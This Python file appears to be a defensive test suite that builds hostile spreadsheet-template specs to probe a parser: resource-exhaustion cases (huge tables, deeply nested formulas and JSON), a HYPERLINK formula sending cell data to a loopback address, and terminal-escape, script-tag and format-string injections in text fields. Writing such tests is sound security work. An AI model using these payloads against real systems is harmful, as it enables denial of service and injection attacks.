"""A template of a user's own travels inside the file: here, one that nobody could want."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import msgspec
from made_files import around, attack, cell, layout_of, on_template

from smsheets.spec.load import load_spec

Json = dict[str, Any]


def _carrying(path: Path, text: str, kind: str = "") -> None:
    """A calendar that says it was made from this spec, which has a kind of its own or takes the template's place."""
    part = f"xl/worksheets/sheet{len(layout_of('calendar').sheets) + 2}.xml"
    pieces = [text[start : start + 30_000] for start in range(0, len(text), 30_000)]
    rows = (
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>spec</t></is></c>'
        f'<c r="B{n}" t="inlineStr"><is><t>{escape(piece)}</t></is></c></row>'
        for n, piece in enumerate(pieces, 2_000)
    )
    whole = "".join(around(part, "</sheetData>", rows))
    if kind:
        whole, count = re.subn(r'<c r="B2".*?</c>', cell("B2", kind), whole, count=1)
        assert count
    on_template(path, {part: whole})


def _own(change: Callable[[Json], None]) -> str:
    spec: Json = msgspec.json.decode(msgspec.json.encode(load_spec("calendar")))
    change(spec)
    return json.dumps(spec)


def _table(number: int, rows: int = 10_000, columns: int = 3, **column: Any) -> Json:
    fields = [{"id": f"c{n}", "label": f"Column {n}", **column} for n in range(columns)]
    return {"type": "table", "id": f"t{number}", "rows": rows, "columns": fields}


def _add_sheets(spec: Json, *tables: Json) -> None:
    spec["sheets"] += [{"id": f"s{n}", "name": f"S{n}", "blocks": [table]} for n, table in enumerate(tables)]


@attack()
def spec_of_many_tables(path: Path) -> None:
    _carrying(path, _own(lambda spec: _add_sheets(spec, *(_table(n) for n in range(2_000)))))


@attack()
def spec_of_many_computed_cells(path: Path) -> None:
    _carrying(path, _own(lambda spec: _add_sheets(spec, *(_table(n, 10_000, 100, formula="1+1") for n in range(10)))))


@attack()
def spec_of_many_repetitions(path: Path) -> None:
    tables = (_table(n, 10_000, 100, each="count:9999", formula="1+1") for n in range(10))
    _carrying(path, _own(lambda spec: _add_sheets(spec, *tables)))


@attack()
def spec_of_many_columns(path: Path) -> None:
    _carrying(path, _own(lambda spec: _add_sheets(spec, _table(0, 10, 30_000))))


@attack()
def spec_of_more_rows_than_may_be(path: Path) -> None:
    _carrying(path, _own(lambda spec: _add_sheets(spec, _table(0, 10_000_000))))


def _with_formula(formula: str, **field: Any) -> Callable[[Json], None]:
    def change(spec: Json) -> None:
        table = _table(0, 3, 1)  # one column has to be filled in by people
        table["columns"] += _table(0, 3, 1, formula=formula, **field)["columns"]
        table["columns"][1] |= {"id": "f", "label": "Formula"}
        _add_sheets(spec, table)

    return change


@attack()
def spec_with_nested_parentheses(path: Path) -> None:
    _carrying(path, _own(_with_formula("(" * 4_000 + "1" + ")" * 4_000)))


@attack()
def spec_with_nested_functions(path: Path) -> None:
    _carrying(path, _own(_with_formula("ABS(" * 1_500 + "1" + ")" * 1_500)))


@attack()
def spec_with_signs_in_a_row(path: Path) -> None:
    _carrying(path, _own(_with_formula("-" * 8_000 + "1")))


@attack()
def spec_with_a_tower_of_powers(path: Path) -> None:
    _carrying(path, _own(_with_formula("9^" * 4_000 + "9")))


@attack()
def spec_with_repeated_repetitions(path: Path) -> None:
    formula = "1"
    for _ in range(6):
        formula = f"each(count:9999, +, {formula}+{{item.n}})"
    _carrying(path, _own(_with_formula(formula)))


@attack()
def spec_with_nested_repetitions(path: Path) -> None:
    _carrying(path, _own(_with_formula("each(count:1, +, " * 450 + "{item.n}" + ")" * 450)))


@attack()
def spec_with_endless_text(path: Path) -> None:
    _carrying(path, _own(_with_formula('LEN(REPT("x",REPT(9,30)))')))


@attack()
def spec_with_huge_areas(path: Path) -> None:
    """Each cell sums a whole table: ten thousand times ten thousand."""
    _carrying(path, _own(_with_sums(10_000)))


@attack()
def spec_with_areas_of_a_few_thousand_rows(path: Path) -> None:
    """No more cells than a template may have, but each of them looks at thousands."""
    _carrying(path, _own(_with_sums(3_000)))


@attack()
def spec_with_a_link_to_somewhere(path: Path) -> None:
    _carrying(path, _own(_with_formula('HYPERLINK("http://127.0.0.1:9/x?"&{c0})')))


def _with_sums(rows: int) -> Callable[[Json], None]:
    def change(spec: Json) -> None:
        table = _table(0, rows, 1)
        table["columns"] += [
            {"id": f"f{n}", "label": f"F{n}", "formula": "SUMPRODUCT({t0.c0}*{t0.c0})"} for n in range(8)
        ]
        _add_sheets(spec, table)

    return change


@attack()
def spec_that_is_deep(path: Path) -> None:
    text = _own(lambda _: None)
    _carrying(path, text[:-1] + ',"deep":' + "[" * 500_000 + "]" * 500_000 + "}")


@attack()
def spec_that_is_long(path: Path) -> None:
    _carrying(path, _own(lambda spec: spec.update(purpose="x" * 20_000_000)))


@attack()
def spec_with_a_million_words(path: Path) -> None:
    values = [{"id": f"v{n}", "text": f"Word {n}"} for n in range(300_000)]
    _carrying(path, _own(lambda spec: spec["lists"].append({"id": "words", "label": "Words", "values": values})))


@attack()
def spec_with_a_sheet_per_word(path: Path) -> None:
    sheets = [{"id": f"s{n}", "name": f"S{n}", "blocks": []} for n in range(100_000)]
    _carrying(path, _own(lambda spec: spec["sheets"].extend(sheets)))


@attack()
def spec_with_escapes_in_its_texts(path: Path) -> None:
    def change(spec: Json) -> None:
        spec["kind"] = "evil"
        spec["title"] = spec["purpose"] = "\x1b[2J\x1b]0;owned\x07\u202e[red]<script>"
        spec["sheets"][1]["blocks"][0]["columns"][1]["hint"] = "{0.__class__}\x1b[31m"  # a label has to be there

    _carrying(path, _own(change), "evil")
